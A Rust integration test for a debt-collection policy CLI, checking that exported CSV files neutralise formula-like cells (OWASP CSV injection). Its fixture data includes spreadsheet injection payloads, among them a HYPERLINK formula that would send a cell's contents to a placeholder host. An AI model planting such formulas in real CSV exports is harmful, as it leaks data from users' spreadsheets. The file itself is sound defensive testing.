#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! Issue 17 point 7: the CSV files people open in a spreadsheet never carry
//! a live formula from the book's data (OWASP CSV injection).

use std::path::Path;

use assert_cmd::Command;

const POLICY: &str =
    "policy \"Appels\"\njurisdiction LU\ncurrency EUR\napplies to b2b\nafter 5 days call debtor\n";

const HYPERLINK: &str = "=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")";

/// A book whose debtor's phone, name and id, and an invoice number, start
/// like formulas.
fn book(dir: &Path) {
    std::fs::write(dir.join("p.policy"), POLICY).unwrap();
    std::fs::write(
        dir.join("debtors.csv"),
        format!(
            "id,name,kind,country,email,address,phone\n\
             +D1,\"=1+2\",b2b,LU,a@b.lu,\"@home, L-1000\",\"{HYPERLINK}\"\n\
             D2,Beta SA,b2b,LU,c@d.lu,\"1 rue X, L-1000\",+352 621 000 000\n"
        ),
    )
    .unwrap();
    std::fs::write(
        dir.join("ledger.csv"),
        "date,type,invoice,debtor,amount,due\n\
         2026-10-01,invoice,-F-1,+D1,100.00,2026-10-31\n\
         2026-10-01,invoice,F-2,D2,200.00,2026-10-31\n",
    )
    .unwrap();
}

fn policy(dir: &Path) -> Command {
    let mut cmd = Command::cargo_bin("policy").unwrap();
    cmd.env("NO_COLOR", "1").current_dir(dir);
    cmd
}

fn cells(text: &str) -> Vec<Vec<String>> {
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn a_formula_in_a_debtors_phone_is_text_in_the_call_list() {
    let dir = tempfile::tempdir().unwrap();
    book(dir.path());
    policy(dir.path())
        .args([
            "run",
            "p.policy",
            "--accept-stale",
            "--ledger",
            "ledger.csv",
            "--as-of",
            "2026-11-23",
        ])
        .args(["--journal", "j.jsonl", "--outbox", "out"])
        .assert()
        .success();
    let mut lists = Vec::new();
    for entry in walkdir::WalkDir::new(dir.path().join("out")) {
        let entry = entry.unwrap();
        if entry.path().extension().is_some_and(|e| e == "csv") {
            lists.push(std::fs::read_to_string(entry.path()).unwrap());
        }
    }
    assert_eq!(lists.len(), 2);
    let rows: Vec<Vec<String>> = lists.iter().flat_map(|t| cells(t)).collect();
    let d1 = rows.iter().find(|r| r[1] == "'+D1").unwrap();
    assert_eq!(d1[2], "'=1+2");
    assert_eq!(d1[3], "'-F-1");
    assert_eq!(d1[10], "'=HYPERLINK(\"http://x\"&A1,\"click\")");
    assert_eq!(d1[12], "'@home, L-1000");
    assert_eq!(d1[8], "100.00", "amounts stay numbers");
    let d2 = rows.iter().find(|r| r[1] == "D2").unwrap();
    assert_eq!(d2[10], "'+352 621 000 000");
    assert_eq!(d2[2], "Beta SA");
}

#[test]
fn simulate_csv_neutralises_ids_from_the_book() {
    let dir = tempfile::tempdir().unwrap();
    book(dir.path());
    let out = policy(dir.path())
        .args(["simulate", "p.policy", "--ledger", "ledger.csv"])
        .args(["--format", "csv", "--to", "2026-12-01"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8(out.stdout).unwrap();
    let rows = cells(&text);
    assert_eq!(rows.len(), 2, "{text}");
    let first = rows.iter().find(|r| r[1] == "'-F-1").unwrap();
    assert_eq!(first[2], "'+D1");
    assert_eq!(first[8], "100.00");
    assert!(rows.iter().any(|r| r[1] == "F-2" && r[2] == "D2"));
}
